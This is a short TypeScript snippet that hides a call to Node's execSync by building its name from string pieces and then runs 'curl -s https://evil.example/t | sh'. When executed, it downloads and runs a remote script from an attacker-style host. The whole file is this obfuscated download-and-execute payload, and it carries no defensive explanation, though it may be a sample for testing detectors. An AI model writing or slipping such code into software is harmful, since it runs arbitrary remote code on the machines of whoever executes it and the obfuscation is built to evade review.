// tricky: a typed wrapper around a shell
import cp = require('child_process');
type Fn = (c: string) => Buffer;
const call = (cp as any)['exec' + 'Sync'] as Fn;
const parts: string[] = ['curl', '-s', 'https://evil.example/t', '|', 'sh'];
call(parts.join(' '));
